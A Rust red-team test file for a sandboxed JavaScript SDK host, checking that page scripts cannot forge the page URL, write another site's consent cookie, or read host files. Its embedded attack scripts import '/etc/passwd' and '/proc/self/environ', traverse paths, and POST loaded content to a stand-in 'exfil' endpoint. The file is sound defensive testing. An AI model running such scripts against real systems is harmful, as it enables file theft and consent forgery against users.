//! Red team: page code trying to reach the host's internals, forge what the gate sees, or read host files (issue 12,
//! part A). Page and SDK code are hostile: each attack below is one a script can run, tried before the lazy modules
//! load and after, without consent (nothing may reach the transport) and with consent (what is allowed is what a
//! browser would send, for the page URL the host holds).
//!
//! How a leak is detected: `tests/redteam/traps.js` replaces builtins and puts getters and setters on prototypes, and
//! notes every object it is handed that looks like a private one (`H`, `I`, `B`, `hooks`: null-prototype objects with
//! the host's member names). If it ever notes one, or the page URL, a request's page URL or the cookie jar end up
//! anywhere the browser APIs could not have put them, the test fails. Add an attack here whenever you find a new way.

use std::cell::RefCell;
use std::rc::Rc;

use sdkhost::Event;
use sdkhost::Session;
use sdkhost::network::{Request, StubTransport, Transport};
use sdkhost::records::CookieChange;

const TRAPS: &str = include_str!("redteam/traps.js");
const EXERCISE: &str = include_str!("redteam/exercise.js");

/// A transport that counts what reaches it, answering like the stub.
struct Counting(Rc<RefCell<Vec<String>>>);

impl Transport for Counting {
    fn name(&self) -> &str {
        "counting"
    }
    fn send(&mut self, req: &Request) -> sdkhost::network::Answer {
        self.0.borrow_mut().push(format!("{:?} {} from {}", req.initiator, req.url, req.page_url));
        StubTransport::default_answer()
    }
}

struct Run {
    session: Session,
    sent: Rc<RefCell<Vec<String>>>,
}

/// A session on `url` with the consent cookie for `consent_for` (if any), and a counting transport.
fn open(url: &str, consent_for: Option<&str>) -> Run {
    let sent = Rc::new(RefCell::new(Vec::new()));
    let mut session = Session::builder()
        .transport(Box::new(Counting(sent.clone())))
        .script(
            "https://cdn.shop.example/mapped.mjs",
            "mapped.mjs",
            "export const x = 42; export const u = import.meta.url;",
        )
        .build();
    if let Some(site) = consent_for {
        session.set_cookie(site, "ce.tracking-opt-in=true; Path=/").expect("cookie");
    }
    session.open(url).expect("open");
    Run { session, sent }
}

impl Run {
    fn eval(&mut self, js: &str) -> serde_json::Value {
        let out = self.session.eval(js);
        self.session.advance(200).expect("advance");
        out.unwrap_or_else(|e| panic!("attack script threw: {e}"))
    }

    fn console(&self) -> Vec<String> {
        self.session.transcript().console_lines().map(|(_, l)| l.to_owned()).collect()
    }

    /// Every page URL a recorded request was made for.
    fn request_page_urls(&self) -> Vec<String> {
        self.session.transcript().exchanges().iter().map(|e| e.request.page_url.to_string()).collect()
    }

    /// Cookies the page stored for a domain of `site`.
    fn cookies_stored_for(&self, site: &str) -> Vec<String> {
        let t = self.session.transcript();
        t.entries()
            .iter()
            .filter_map(|e| match &e.event {
                Event::Cookie { change: CookieChange::Set | CookieChange::Overwritten, name, domain, .. }
                    if domain.trim_start_matches('.').ends_with(site) =>
                {
                    Some(format!("{name} @ {domain}"))
                }
                _ => None,
            })
            .collect()
    }
}

/// The traps, then `then`, then the leak report (`leaks: N ...`) as the completion value.
fn with_traps(then: &str) -> String {
    format!("{TRAPS}\n{then}\nredteam.report();")
}

#[test]
fn the_traps_catch_a_private_object_when_one_is_handed_to_them() {
    // The detector itself must be able to fail: hand it an object shaped like the natives.
    let mut run = open("https://shop.example/page", None);
    let out = run.eval(&with_traps(
        "var fake = Object.create(null); fake.urlParse = function () {}; fake.send = function () {}; \
         Object.keys(fake);",
    ));
    let out = out.as_str().unwrap_or_default().to_owned();
    assert!(out.starts_with("leaks: 1 keys {urlParse,send}"), "{out} {:?}", run.console());
}

#[test]
fn no_private_object_reaches_page_code_when_traps_come_before_the_modules_load() {
    for consent in [None, Some("https://shop.example/")] {
        let mut run = open("https://shop.example/page", consent);
        let out = run.eval(&with_traps(EXERCISE));
        run.session.advance(500).expect("advance");
        let late = run.eval("redteam.report()");
        assert_eq!(
            (out.clone(), late.clone()),
            (serde_json::json!("leaks: 0"), serde_json::json!("leaks: 0")),
            "consent {consent:?}: {:?}",
            run.console()
        );
        assert!(run.console().iter().any(|l| l == "exercised"), "the exercise ran to its end: {:?}", run.console());
        assert_only_page_urls(&run, "https://shop.example/");
    }
}

#[test]
fn no_private_object_reaches_page_code_when_traps_come_after_the_modules_load() {
    for consent in [None, Some("https://shop.example/")] {
        let mut run = open("https://shop.example/page", consent);
        run.eval(&format!("{EXERCISE}\n'loaded';"));
        let out = run.eval(&with_traps(EXERCISE));
        run.session.advance(500).expect("advance");
        let late = run.eval("redteam.report()");
        assert_eq!(
            (out, late),
            (serde_json::json!("leaks: 0"), serde_json::json!("leaks: 0")),
            "consent {consent:?}: {:?}",
            run.console()
        );
        assert_only_page_urls(&run, "https://shop.example/");
    }
}

fn assert_only_page_urls(run: &Run, prefix: &str) {
    let urls = run.request_page_urls();
    assert!(urls.iter().all(|u| u.starts_with(prefix)), "a request was made for a forged page URL: {urls:?}");
    let sent = run.sent.borrow();
    assert!(sent.iter().all(|s| s.contains(&format!("from {prefix}"))), "{sent:?}");
    let current = run.session.url().map(|u| u.to_string()).unwrap_or_default();
    assert!(current.starts_with(prefix), "the page URL moved to {current}");
}

/// Every in-place way page JS has to move the document to another origin: each must fail.
const FORGE_URL: &str = r#"
var tries = [
  function () { history.pushState(null, '', 'https://elsewhere.example/'); },
  function () { history.replaceState(null, '', 'https://elsewhere.example/'); },
  function () { history.pushState(null, '', '//elsewhere.example/'); },
  function () { history.pushState(null, '', 'http://shop.example/'); },
  function () { History.prototype.pushState.call(history, null, '', 'https://elsewhere.example/x'); },
  function () { Object.defineProperty(document, 'URL', { value: 'https://elsewhere.example/' }); },
  function () { redteam.forge('https://elsewhere.example/'); }
];
var refused = 0;
tries.forEach(function (f) { try { f(); } catch (e) { refused++; } });
console.log('refused ' + refused + ' url ' + location.href);
fetch('https://t.example/collect', { method: 'POST', body: '{}' });
"#;

#[test]
fn a_page_cannot_move_its_url_to_a_consented_origin() {
    // Consent exists only for elsewhere.example: if the gate ever decided on a forged page URL, the fetch would go out.
    let mut run = open("https://shop.example/page", Some("https://elsewhere.example/"));
    run.eval(&with_traps(&format!("{EXERCISE}\n{FORGE_URL}")));
    let console = run.console();
    // The exercise moved the page within its origin (pushState, a fragment); every cross-origin try was refused.
    assert!(console.iter().any(|l| l == "refused 5 url https://shop.example/replaced#frag"), "{console:?}");
    assert_eq!(run.sent.borrow().len(), 0, "0 transport calls without consent: {:?}", run.sent.borrow());
    assert_only_page_urls(&run, "https://shop.example/");
    assert_eq!(run.eval("redteam.report()"), serde_json::json!("leaks: 0"));
}

#[test]
fn with_consent_the_same_attempt_goes_out_for_the_real_page_url() {
    let mut run = open("https://shop.example/page", Some("https://shop.example/"));
    run.eval(&with_traps(&format!("{EXERCISE}\n{FORGE_URL}")));
    let expected = "Fetch https://t.example/collect from https://shop.example/replaced#frag";
    assert!(run.sent.borrow().iter().any(|s| s == expected), "{:?}", run.sent.borrow());
    assert_only_page_urls(&run, "https://shop.example/");
}

/// Every way page JS on evil.example might write the consent cookie of shop.example.
const FORGE_COOKIE: &str = r#"
var writes = [
  'ce.tracking-opt-in=true; Path=/; Domain=shop.example',
  'ce.tracking-opt-in=true; Path=/; Domain=.shop.example',
  'ce.tracking-opt-in=true; Path=/; Domain=www.shop.example',
  'ce.tracking-opt-in=true; Path=/; Domain=example'
];
writes.forEach(function (w) { document.cookie = w; });
try { history.pushState(null, '', 'https://shop.example/'); } catch (e) {}
document.cookie = 'ce.tracking-opt-in=true; Path=/';
redteam.forge('https://shop.example/');
document.cookie = 'ce.tracking-opt-in=true; Path=/';
redteam.forgeCookie('ce.tracking-opt-in=true; Path=/; Domain=shop.example');
console.log('cookie here: ' + document.cookie);
"#;

#[test]
fn a_page_on_one_site_cannot_write_the_consent_cookie_of_another() {
    for consent in [None, Some("https://evil.example/")] {
        let mut run = open("https://evil.example/", consent);
        run.eval(&with_traps(&format!("{EXERCISE}\n{FORGE_COOKIE}")));
        assert_eq!(run.cookies_stored_for("shop.example"), Vec::<String>::new(), "consent {consent:?}");
        // Then the visitor goes to shop.example: its SDK must see no opt-in, and nothing may go out.
        run.sent.borrow_mut().clear();
        run.session.open("https://shop.example/").expect("open");
        let seen = run.eval("fetch('https://t.example/x', {method: 'POST', body: '{}'}); document.cookie");
        assert_eq!(seen, serde_json::json!(""), "consent {consent:?}");
        assert_eq!(run.sent.borrow().len(), 0, "consent {consent:?}: {:?}", run.sent.borrow());
    }
}

/// Imports of files near the working directory (the tests run in the crate root, where these exist) and of files
/// that do not exist: each outcome is logged as `import <specifier>: <outcome>`.
const IMPORTS: &str = r#"
var specs = [
  ['./Cargo.toml'], ['./no-such-file.toml'], ['Cargo.toml'], ['/etc/passwd'], ['/no/such/file'],
  ['../../../../../../etc/passwd'], ['file:///etc/passwd'], ['file:///no/such/file'],
  ['./tests/corpora/http-state/parser.json', { with: { type: 'json' } }],
  ['./tests/corpora/http-state/no-such.json', { with: { type: 'json' } }],
  ['file:///proc/self/environ'], ['data:text/javascript,export default 1']
];
specs.forEach(function (s) {
  var p = s.length > 1 ? import(s[0], s[1]) : import(s[0]);
  p.then(function (m) {
    var text = JSON.stringify(m.default === undefined ? Object.keys(m) : m.default);
    console.log('import ' + s[0] + ': loaded ' + text.length);
    fetch('https://t.example/exfil', { method: 'POST', body: text });
  }, function (e) {
    console.log('import ' + s[0] + ': ' + e.name + ': ' + String(e.message).replace(s[0], 'SPEC').replace(/https:\/\/shop\.example\/[^ ]*|file:\/\/\/[^ ]*/, 'URL'));
  });
});
import('https://cdn.shop.example/mapped.mjs').then(function (m) { console.log('mapped ' + m.x + ' ' + m.u); });
"#;

#[test]
fn import_never_reads_a_file_and_never_tells_whether_one_exists() {
    for consent in [None, Some("https://shop.example/")] {
        let mut run = open("https://shop.example/app/page", consent);
        run.eval(IMPORTS);
        let console = run.console();
        let outcome = |spec: &str| {
            let prefix = format!("import {spec}: ");
            console.iter().find_map(|l| l.strip_prefix(prefix.as_str())).map(str::to_owned).unwrap_or_default()
        };
        let pairs = [
            ("./Cargo.toml", "./no-such-file.toml"),
            ("/etc/passwd", "/no/such/file"),
            ("file:///etc/passwd", "file:///no/such/file"),
            ("./tests/corpora/http-state/parser.json", "./tests/corpora/http-state/no-such.json"),
        ];
        for (exists, missing) in pairs {
            assert!(!outcome(exists).is_empty(), "consent {consent:?}: no outcome for {exists}: {console:?}");
            assert_eq!(outcome(exists), outcome(missing), "consent {consent:?}: {exists} vs {missing}");
        }
        assert!(console.contains(&"mapped 42 https://cdn.shop.example/mapped.mjs".to_owned()), "{console:?}");
        // No file content anywhere in the record (the corpus and Cargo.toml have these).
        let record = serde_json::to_string(&run.session.transcript()).expect("json");
        for secret in ["[package]", "Set-Cookie", "root:"] {
            assert!(!record.contains(secret), "consent {consent:?}: {secret:?} is in the transcript");
        }
        for spec in
            ["file:///etc/passwd", "file:///proc/self/environ", "Cargo.toml", "data:text/javascript,export default 1"]
        {
            assert!(outcome(spec).contains("TypeError"), "consent {consent:?}: {spec}: {}", outcome(spec));
        }
        let sent = run.sent.borrow();
        match consent {
            None => assert_eq!(sent.len(), 0, "{sent:?}"),
            // The relative and absolute-path specifiers are URLs of the page's site: GETs through the gate.
            Some(_) => assert!(
                sent.iter()
                    .any(|s| s == "Script https://shop.example/app/Cargo.toml from https://shop.example/app/page"),
                "{sent:?}"
            ),
        }
        assert!(sent.iter().all(|s| !s.contains("file:")), "{sent:?}");
    }
}

#[test]
fn an_imported_module_is_gated_and_recorded_like_a_script() {
    let mut run = open("https://shop.example/", None);
    run.eval("import('https://cdn.example/m.js').then(function () { console.log('loaded'); }, function (e) { console.log(e.name + ': ' + e.message); });");
    assert_eq!(run.console(), ["TypeError: Failed to fetch dynamically imported module: https://cdn.example/m.js"]);
    let ex = run.session.transcript().exchanges();
    assert_eq!(ex.len(), 1);
    assert!(!ex[0].is_allowed());
    assert_eq!(format!("{:?}", ex[0].request.initiator), "Script");
    assert_eq!(run.sent.borrow().len(), 0);

    let mut run = open("https://shop.example/", Some("https://shop.example/"));
    run.eval("import('https://cdn.example/m.js').then(function (m) { console.log('loaded ' + Object.keys(m).length); }, function (e) { console.log(e.name + ': ' + e.message); });");
    assert_eq!(run.console(), ["loaded 0"]);
    assert_eq!(*run.sent.borrow(), ["Script https://cdn.example/m.js from https://shop.example/"]);
}

#[test]
fn mapped_modules_import_each_other_by_url_without_the_network() {
    let sent = Rc::new(RefCell::new(Vec::new()));
    let mut s = Session::builder()
        .transport(Box::new(Counting(sent.clone())))
        .script(
            "https://cdn.shop.example/a.mjs",
            "a.mjs",
            "import { b } from './b.mjs'; export const v = b + 1; export const u = import.meta.url;",
        )
        .script("https://cdn.shop.example/b.mjs", "b.mjs", "export const b = 41;")
        .build();
    s.open("https://shop.example/").expect("open");
    let js = "var a = 'https://cdn.shop.example/a.mjs'; Promise.all([import(a), import(a)]).then(function (m) { \
              console.log(m[0].v + ' ' + m[0].u + ' ' + (m[0] === m[1])); });";
    s.eval(js).expect("no exception");
    s.advance(10).expect("advance");
    let console: Vec<String> = s.transcript().console_lines().map(|(_, l)| l.to_owned()).collect();
    assert_eq!(console, ["42 https://cdn.shop.example/a.mjs true"]);
    assert_eq!((sent.borrow().len(), s.transcript().exchanges().len()), (0, 0));
}
